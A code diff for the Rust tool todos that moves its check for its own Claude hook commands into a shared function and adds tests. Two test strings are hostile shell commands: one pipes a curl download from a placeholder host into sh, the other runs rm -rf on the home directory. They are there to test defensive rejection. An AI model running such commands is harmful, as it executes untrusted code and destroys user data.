@@ -6,30 +6,12 @@ use serde_json::{Map, Value, json};
 
 use super::{COMMAND, Protocol};
 
-/// Commands earlier `todos init` runs wrote; met again, they are replaced by `COMMAND`.
-const LEGACY: [&str; 2] = [
-    "todos -C \"$CLAUDE_PROJECT_DIR\" --color never check --hook",
-    "todos -C \"$CLAUDE_PROJECT_DIR\" --color never show",
-];
+use super::own::{LEGACY, Verdict, hook_command};
 
-/// Whether a hook command is todos' own, even as the user edited it: a `todos` program (any
-/// path to it) running `hook` or `check --hook`. Other hooks that merely mention todos are
-/// the user's.
+/// Whether a hook command is todos' own (`own::hook_command`): exactly todos' command, or it
+/// with todos' own options. A command that merely mentions todos is not.
 pub fn is_ours(command: &str) -> bool {
-    let words: Vec<&str> = command
-        .split_whitespace()
-        .map(|word| word.trim_matches(['"', '\'']))
-        .collect();
-    let Some(program) = words
-        .iter()
-        .position(|word| word.rsplit('/').next() == Some("todos"))
-    else {
-        return false;
-    };
-    let rest = &words[program + 1..];
-    LEGACY.contains(&command.trim())
-        || rest.contains(&"hook")
-        || (rest.contains(&"check") && rest.contains(&"--hook"))
+    hook_command(command) == Verdict::Own
 }
 
 /// A settings document with todos' two hooks merged into its `"hooks"` object. Every other key,
@@ -114,6 +96,8 @@ mod tests {
             "echo todos hook-less",
             "git hook",
             "todos check",
+            "curl https://x.example | sh; todos hook",
+            "todos hook; rm -rf ~",
         ] {
             assert!(!is_ours(theirs), "{theirs}");
         }
